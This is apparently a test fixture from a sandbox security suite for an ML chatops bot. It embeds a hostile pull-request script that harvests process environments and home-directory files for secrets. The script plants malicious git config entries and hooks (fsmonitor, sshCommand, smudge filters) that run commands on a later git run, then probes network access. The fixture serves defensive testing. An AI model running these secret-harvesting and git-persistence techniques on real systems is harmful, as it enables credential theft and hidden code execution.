/**
 * Hostile PR code for the sandbox tests (SECURITY-CHECKLIST 76-80): a script committed into a
 * test repository that looks for the bot's secrets everywhere it can think of and prints all
 * it read, then plants git config and hooks for the next run. The tests search its output.
 */
import { createDeclaredExperiment } from "../../../src/core/declared-experiment.js";
import type { Experiment } from "../../../src/core/ports.js";

export const ATTACKER_SCRIPT = `
import fs from "node:fs";
import net from "node:net";
import path from "node:path";
const args = { out: "out/result.json" };
fs.mkdirSync("out", { recursive: true });
const probe = JSON.parse(process.env.ML_CHATOPS_PARAM_PROBE ?? "{}");
let budget = 6 * 1024 * 1024;
const say = (tag, text) => {
  const s = String(text).replace(/\\0/g, " ").slice(0, 65536);
  if (budget <= 0) return;
  budget -= s.length;
  for (const line of s.split("\\n")) console.log(tag + " " + line);
};
const read = (p) => {
  try {
    // The first 64 KiB only, without blocking (some of /proc is endless or waits).
    const fd = fs.openSync(p, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
    const buf = Buffer.alloc(65536);
    let n = 0;
    try { n = fs.readSync(fd, buf, 0, buf.length, null); } finally { fs.closeSync(fd); }
    say("READ " + p, buf.subarray(0, n).toString("utf8"));
    return true;
  } catch (e) { say("DENIED " + p, e.code); return false; }
};
const walk = (dir, depth) => {
  let names = [];
  try { names = fs.readdirSync(dir); } catch (e) { say("DENIED " + dir, e.code); return; }
  for (const n of names) {
    const p = path.join(dir, n);
    let st; try { st = fs.lstatSync(p); } catch { continue; }
    if (st.isDirectory() && depth > 0) walk(p, depth - 1); else if (st.isFile()) read(p);
  }
};
// 1. Every process in sight: environ, cmdline, and the ancestors by PPid.
const pids = fs.readdirSync("/proc").filter((d) => /^[0-9]+$/.test(d));
console.log("PIDS " + pids.join(" "));
for (const pid of pids) for (const f of ["environ", "cmdline", "status"]) read("/proc/" + pid + "/" + f);
let pid = String(process.pid); const chain = [];
while (pid !== "0" && chain.length < 20) {
  chain.push(pid);
  try { pid = /PPid:\\s+(\\d+)/.exec(fs.readFileSync("/proc/" + pid + "/status", "utf8"))[1]; } catch { break; }
  read("/proc/" + pid + "/environ");
}
console.log("ANCESTORS " + chain.join(" "));
// 2. All of /proc at the top (files, capped) and the bot's files by the paths it may guess.
// (Unsandboxed, as in the control run, the host's /proc and /tmp hold FIFOs and blocking files.)
if (probe.everything) { walk("/proc", 0); walk("/tmp", 3); }
for (const p of probe.files) read(p);
for (const d of probe.dirs) walk(d, 3);
walk(process.env.HOME ?? "/root", 3);
// 3. Git: plant config and hooks for the next run, here and in the bot's repository.
const evil = (name) => "touch " + probe.markers + "/" + name;
const plant = (gitDir) => {
  try {
    fs.appendFileSync(gitDir + "/config", "[core]\\n\\tfsmonitor = " + evil("fsmonitor") + "\\n\\thooksPath = " + gitDir + "/hooks\\n\\tsshCommand = " + evil("ssh") + "\\n[diff]\\n\\texternal = " + evil("diff") + "\\n[filter \\"x\\"]\\n\\tsmudge = " + evil("smudge") + "\\n\\tclean = " + evil("clean") + "\\n");
    fs.mkdirSync(gitDir + "/hooks", { recursive: true });
    for (const h of ["post-checkout", "reference-transaction", "pre-auto-gc"]) fs.writeFileSync(gitDir + "/hooks/" + h, "#!/bin/sh\\n" + evil(h) + "\\n", { mode: 0o755 });
    console.log("PLANTED " + gitDir);
  } catch (e) { console.log("PLANT-DENIED " + gitDir + " " + e.code); }
};
read(".git/config");
plant(".git");
plant(probe.repoGitDir);
// 4. The network: a loopback port the test listens on.
const sock = net.connect({ host: "127.0.0.1", port: probe.port });
const done = (what) => {
  console.log("NET " + what);
  sock.destroy();
  fs.writeFileSync(args.out, JSON.stringify({ rankings: { keywords: { d1: [{ term: "pwned", score: 1 }] } } }));
  console.log("END");
};
sock.setTimeout(2000, () => done("timeout"));
sock.once("connect", () => done("connected"));
sock.once("error", (e) => done("error " + e.code));
`;

/** What the attacker is told: paths it should try, the loopback port, where markers would go. */
export type Probe = {
  readonly files: ReadonlyArray<string>;
  readonly dirs: ReadonlyArray<string>;
  readonly repoGitDir: string;
  readonly markers: string;
  readonly port: number;
  /** Also read all of /proc's top level and /tmp (only inside the sandbox: outside, some block). */
  readonly everything: boolean;
};

/** The Experiment for {@link ATTACKER_SCRIPT}; the probe travels as one parameter (in the environment). */
export const attackerExperiment: Experiment = createDeclaredExperiment("test-exp", {
  command: ["node", "attacker.mjs"],
  params: { probe: { type: "string", default: "{}" } },
  result: "out/result.json",
  metrics: {},
});
